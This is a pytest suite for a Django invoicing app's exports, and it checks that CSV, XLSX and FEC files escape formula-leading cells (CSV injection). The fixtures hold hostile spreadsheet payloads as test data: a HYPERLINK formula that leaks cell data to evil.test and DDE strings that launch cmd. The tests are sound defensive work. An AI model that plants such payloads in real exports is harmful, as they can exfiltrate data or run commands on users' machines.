"""Every export a spreadsheet may open escapes formula-leading text (CSV injection), issue 13.

Hostile customer names, customer references and bank references go through every web download
and every command that writes CSV, XLSX or the FEC; no cell may come out as a formula, and the
amounts must still be numbers.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from encaisse.analytics.reports import REPORTS
from encaisse.core.models import Company
from encaisse.core.tests.factories import CustomerFactory, make_invoice, make_payment

HYPERLINK = '=HYPERLINK("http://evil.test/?d="&A1,"Cliquez ici")'
DDE = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
BANK_REFERENCE = "=1+2"
HOSTILE = (HYPERLINK, DDE, AT_SUM, MINUS, BANK_REFERENCE)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A plain signed number is a number to a spreadsheet, not a formula (CSV writes amounts so).
PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")

# the reports that list customers (the others are figures, or empty on this small ledger)
NAMED_REPORTS = {"aging", "behaviour", "balance"}


@pytest.fixture
def hostile(company: Company) -> Company:
    """Two customers whose name and reference are formulas, invoices, a partial payment with a
    formula as its bank reference, and an overpayment (a negative balance)."""
    first = CustomerFactory.create(company=company, name=HYPERLINK, reference=AT_SUM)
    second = CustomerFactory.create(company=company, name=DDE, reference=MINUS)
    make_invoice(company=company, customer=first, amount="1000.00", issued_on=date(2025, 3, 1))
    make_invoice(company=company, customer=first, amount="250.00", issued_on=date(2025, 9, 1))
    make_invoice(company=company, customer=second, amount="80.00", issued_on=date(2025, 6, 1))
    make_payment(
        company=company,
        customer=first,
        amount="300.00",
        received_on=date(2025, 4, 10),
        reference=BANK_REFERENCE,
    )
    make_payment(company=company, customer=second, amount="150.00", received_on=date(2025, 7, 1))
    return company


def _formula_cells(values: Iterable[str]) -> list[str]:
    return [
        value
        for value in values
        if value.lstrip(" ").startswith(FORMULA_STARTS)
        and not PLAIN_NUMBER.fullmatch(value.lstrip(" "))
    ]


def _check_csv(text: str, *, names: bool) -> None:
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert _formula_cells(cells) == []
    if names:
        assert {f"'{value}" for value in HOSTILE} & set(cells), "no hostile name exported"


def _check_xlsx(content: bytes, *, names: bool) -> None:
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert _formula_cells(c.value for c in cells if isinstance(c.value, str)) == []
    if names:
        assert {f"'{value}" for value in HOSTILE} & {c.value for c in cells}, "no hostile name"
        # the amounts are still numbers a spreadsheet can add up
        assert any(isinstance(c.value, int | float | Decimal) for c in cells)


def _check_fec(text: str) -> None:
    lines = text.splitlines()
    fields = [field for line in lines[1:] for field in line.split("\t")]
    assert all(len(line.split("\t")) == 18 for line in lines)
    assert _formula_cells(fields) == []
    # the FEC turns a tab or a pipe inside a text into a space
    assert f"'{HYPERLINK}" in fields  # CompAuxLib, the customer's name
    assert "'" + AT_SUM.replace("|", " ") in fields  # CompAuxNum, the customer's reference
    assert f"'{BANK_REFERENCE}" in fields  # PieceRef of the payment


WEB_CSV = [(name, name in NAMED_REPORTS) for name in sorted(REPORTS)]


@pytest.mark.parametrize(("name", "names"), WEB_CSV)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_report_downloads_escape_formulas(
    hostile: Company, owner_client: Client, name: str, names: bool, fmt: str
) -> None:
    # when
    response = owner_client.get(reverse("analytics:download", kwargs={"name": name, "fmt": fmt}))

    # then
    assert response.status_code == 200
    if fmt == "csv":
        _check_csv(response.content.decode(), names=names)
    else:
        _check_xlsx(response.content, names=names)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_reconciliation_downloads_escape_formulas(
    hostile: Company, owner_client: Client, fmt: str
) -> None:
    # when
    url = reverse("ledger:accounting_reconciliation")
    response = owner_client.get(url, {"format": fmt, "date_from": "2025-01-01"})

    # then
    assert response.status_code == 200
    if fmt == "csv":
        _check_csv(response.content.decode(), names=True)
    else:
        _check_xlsx(response.content, names=True)


def test_fec_download_never_starts_a_field_with_a_formula(
    hostile: Company, owner_client: Client
) -> None:
    # when
    response = owner_client.get(reverse("ledger:accounting_download"))

    # then
    assert response.status_code == 200
    _check_fec(b"".join(response.streaming_content).decode())  # type: ignore[attr-defined]


COMMAND_REPORTS = [(name, name in NAMED_REPORTS) for name in ["balance", *sorted(REPORTS)]]


@pytest.mark.parametrize(("name", "names"), COMMAND_REPORTS)
def test_report_command_csv_escapes_formulas(hostile: Company, name: str, names: bool) -> None:
    # when
    out = io.StringIO()
    call_command("report", name, "--company", "acme", "--format", "csv", stdout=out)

    # then
    _check_csv(out.getvalue(), names=names)


@pytest.mark.parametrize(("name", "names"), COMMAND_REPORTS)
def test_report_command_xlsx_escapes_formulas(
    hostile: Company, tmp_path: Path, name: str, names: bool
) -> None:
    # when
    path = tmp_path / f"{name}.xlsx"
    call_command("report", name, "--company", "acme", "--format", "xlsx", "-o", str(path))

    # then
    _check_xlsx(path.read_bytes(), names=names)


def test_reconcile_statements_csv_escapes_formulas(hostile: Company) -> None:
    # when
    out = io.StringIO()
    call_command(
        "reconcile-statements", "--company", "acme", "--from", "2025-01-01", "--format", "csv",
        stdout=out,
    )  # fmt: skip

    # then
    _check_csv(out.getvalue(), names=True)


def test_export_fec_command_never_starts_a_field_with_a_formula(
    hostile: Company, tmp_path: Path
) -> None:
    # when
    path = tmp_path / "fec.txt"
    call_command("export-fec", "--company", "acme", "-o", str(path), stdout=io.StringIO())

    # then
    _check_fec(path.read_text(encoding="utf-8"))
